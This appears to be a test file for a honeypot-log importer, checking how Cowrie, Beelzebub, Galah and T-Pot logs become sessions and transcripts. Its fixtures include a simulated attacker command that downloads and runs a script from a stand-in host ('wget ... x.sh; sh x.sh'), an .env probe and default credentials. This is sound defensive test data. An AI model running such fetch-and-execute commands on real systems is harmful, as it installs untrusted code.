import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { uuid7 } from '../../src/events/uuid7.ts'
import { openReading } from '../../src/store/open.ts'
import { readTranscript } from '../../src/store/transcript.ts'
import { tempFolder } from '../store/temp-folder.ts'
import { sundew } from './run-sundew.ts'

const SESSION = { session: 'a1b2c3d4e5f6', src_ip: '198.51.100.7', sensor: 'old' }
const COWRIE = [
  {
    eventid: 'cowrie.session.connect',
    timestamp: '2025-03-01T10:00:00.000001Z',
    src_port: 4711,
    dst_ip: '10.0.0.2',
    dst_port: 22,
    protocol: 'ssh',
    ...SESSION,
  },
  { eventid: 'cowrie.client.version', timestamp: '2025-03-01T10:00:00.100000Z', version: 'SSH-2.0-Go', ...SESSION },
  {
    eventid: 'cowrie.client.kex',
    timestamp: '2025-03-01T10:00:00.200000Z',
    hassh: 'f'.repeat(32),
    kexAlgs: ['curve25519-sha256'],
    ...SESSION,
  },
  { eventid: 'cowrie.login.success', timestamp: '2025-03-01T10:00:01.000000Z', username: 'root', password: 'admin', ...SESSION },
  { eventid: 'cowrie.command.input', timestamp: '2025-03-01T10:00:02.000000Z', input: 'wget http://192.0.2.9/x.sh; sh x.sh', ...SESSION },
  {
    eventid: 'cowrie.session.file_download',
    timestamp: '2025-03-01T10:00:03.000000Z',
    url: 'http://192.0.2.9/x.sh',
    shasum: '4355a46b19d348dc2f57c046f8ef63d4538ebb936000f3c9ee954a27460dd865',
    ...SESSION,
  },
  { eventid: 'cowrie.telnet.exploit_attempt', timestamp: '2025-03-01T10:00:04.000000Z', cve: 'CVE-2026-24061', ...SESSION },
  { eventid: 'cowrie.session.closed', timestamp: '2025-03-01T10:00:09.000000Z', duration: 9, ...SESSION },
]
const lines = (records: readonly unknown[]): string => `${records.map((record) => JSON.stringify(record)).join('\n')}\n`

describe('sundew import', () => {
  it('makes sessions of Cowrie logs, packed ones too, with captured files; a second time adds nothing', async () => {
    const data = tempFolder()
    const old = tempFolder()
    mkdirSync(join(old, 'log'))
    mkdirSync(join(old, 'downloads'))
    const sha256 = '4355a46b19d348dc2f57c046f8ef63d4538ebb936000f3c9ee954a27460dd865'
    writeFileSync(join(old, 'downloads', sha256), '1\n')
    const log = join(old, 'log', 'cowrie.json.gz')
    writeFileSync(log, gzipSync(`${lines(COWRIE)}not json\n`))
    const first = await sundew('import', 'cowrie', log, '--data', data, '--json')
    expect(first).toMatchObject({ code: 0 })
    expect(JSON.parse(first.out)).toEqual({ files: 1, lines: 9, events: 10, sessions: 1, unread: 1 })
    await sundew('import', 'cowrie', log, '--data', data)
    const store = openReading(data)
    expect(await store?.counts()).toMatchObject({ events: 10, sessions: 1, deadLetters: 0 })
    const [session] = (await store?.sessions({})) ?? []
    expect(session).toMatchObject({
      lure: 'ssh',
      standsFor: ['Cowrie'],
      srcIp: '198.51.100.7',
      srcPort: 4711,
      dstPort: 22,
      turns: 1,
      logins: 1,
      credential: 'root:admin',
      artifacts: 1,
    })
    expect(session?.tags).toContain('attack:T1105')
    const turns = store && session ? await readTranscript(store, session.session) : []
    expect(turns.map(({ input }) => input)).toEqual(['wget http://192.0.2.9/x.sh; sh x.sh'])
    expect((await store?.facts({ field: 'hassh' }))?.[0]?.value).toBe('f'.repeat(32))
    await store?.close()
  })

  it('makes turns with their answers of Beelzebub and Galah, of their makers and of T-Pot', async () => {
    const data = tempFolder()
    const beelzebub = join(data, 'beelzebub.json')
    writeFileSync(
      beelzebub,
      lines([
        {
          timestamp: '2025-03-01T10:00:00Z',
          message: 'New SSH attempt',
          status: 'Stateless',
          username: 'root',
          password: 'x',
          src_ip: '198.51.100.7',
          session: 's1',
          protocol: 'SSH',
        },
        {
          timestamp: '2025-03-01T10:00:01Z',
          status: 'Interaction',
          input: 'id',
          output: 'uid=0(root)',
          input_duration: '0.42s',
          src_ip: '198.51.100.7',
          session: 's1',
          protocol: 'SSH',
        },
        {
          level: 'info',
          msg: 'x',
          event: {
            DateTime: '2025-03-01T10:00:02Z',
            Status: 'Interaction',
            Command: 'uname',
            CommandOutput: 'Linux',
            ID: 's2',
            SourceIp: '198.51.100.8',
            Protocol: 'SSH',
          },
        },
      ]),
    )
    const galah = join(data, 'galah.json')
    writeFileSync(
      galah,
      lines([
        {
          timestamp: '2025-03-01T10:00:00Z',
          src_ip: '198.51.100.9',
          src_port: '1',
          session: 'g1',
          'request.method': 'GET',
          'request.requestURI': '/.env',
          'request.headers.User-Agent': 'curl/8',
          'response.body': 'DB=1',
        },
        {
          timestamp: '2025-03-01T10:00:01Z',
          srcIP: '198.51.100.9',
          srcPort: '2',
          httpRequest: { method: 'POST', request: '/login', body: 'a=b' },
          httpResponse: { body: 'no' },
        },
      ]),
    )
    await sundew('import', 'beelzebub', beelzebub, '--data', data)
    await sundew('import', 'galah', galah, '--data', data)
    const store = openReading(data)
    const turns = (await store?.events({ type: 'turn' })) ?? []
    await store?.close()
    expect(turns.map(({ lure, data: { input, output, source } }) => [lure, input, output, source])).toEqual(
      expect.arrayContaining([
        ['ssh', 'id', 'uid=0(root)', 'llm'],
        ['ssh', 'uname', 'Linux', 'llm'],
        ['http', 'GET /.env HTTP/1.1\r\nUser-Agent: curl/8\r\n\r\n', 'DB=1', 'llm'],
        ['http', 'POST /login HTTP/1.1\r\n\r\na=b', 'no', 'llm'],
      ]),
    )
  })

  it("reads the folders of T-Pot's honeypots, each by its own log", async () => {
    const data = tempFolder()
    const tpot = tempFolder()
    const log = (path: string, text: string): void => {
      mkdirSync(join(tpot, path, '..'), { recursive: true })
      writeFileSync(join(tpot, path), text)
    }
    log('cowrie/log/cowrie.json', lines(COWRIE))
    log('heralding/log/auth.csv', 'timestamp,auth_id\n2025-03-01 10:00:00.123456,a,h1,198.51.100.7,5,10.0.0.2,21,ftp,"a,b","p""w",\n')
    log('redishoneypot/log/redishoneypot.log', lines([{ time: '2025-03-01 10:00:00', action: 'INFO', addr: '198.51.100.8:9' }]))
    log(
      'dionaea/log/dionaea.json',
      lines([
        {
          timestamp: '2025-03-01T10:00:00.1',
          connection: { protocol: 'mssqld' },
          src_ip: '::ffff:198.51.100.9',
          src_port: 7,
          dst_port: 1433,
          credentials: { username: ['sa'], password: ['1'] },
        },
      ]),
    )
    expect(await sundew('import', 'tpot', tpot, '--data', data)).toMatchObject({
      code: 0,
      out: expect.stringMatching(/^4 sessions, \d+ events from 12 lines of 4 files; 1 lines were none/),
    })
    const store = openReading(data)
    const sessions = (await store?.sessions({})) ?? []
    const logins = (await store?.events({ type: 'login' })) ?? []
    await store?.close()
    expect(sessions.map(({ lure, srcIp }) => `${lure} ${srcIp}`).sort()).toEqual([
      'ftp 198.51.100.7',
      'mssql 198.51.100.9',
      'redis 198.51.100.8',
      'ssh 198.51.100.7',
    ])
    expect(logins.map(({ data: { username, password } }) => `${username}:${password}`).sort()).toEqual(['a,b:p"w', 'root:admin', 'sa:1'])
  })

  it('files what a wrong clock dated into the future before what happens now, which outputs would pass over otherwise', async () => {
    const data = tempFolder()
    const log = join(data, 'cowrie.json')
    const input = { eventid: 'cowrie.command.input', input: 'id', ...SESSION }
    const times = ['2099-01-01T00:00:00Z', 1e300, -5, 4_102_444_800, 'never']
    writeFileSync(log, lines(times.map((timestamp) => ({ ...input, timestamp }))))
    expect(await sundew('import', 'cowrie', log, '--data', data)).toMatchObject({
      code: 0,
      out: expect.stringContaining('3 lines were none'),
    })
    const store = openReading(data)
    const events = (await store?.events({})) ?? []
    await store?.close()
    expect(events.map(({ time }) => new Date(time).getUTCFullYear()).sort()).toEqual([2099, 2100])
    for (const { id } of events) expect(id < uuid7(), id).toBe(true)
  })

  it('explains what it cannot do', async () => {
    expect(await sundew('import', 'mhn', 'x')).toMatchObject({ code: 2, err: expect.stringContaining('none of tpot, cowrie') })
    expect(await sundew('import', 'tpot', tempFolder())).toMatchObject({ code: 2, err: expect.stringContaining('no <honeypot>/log/') })
  })
})
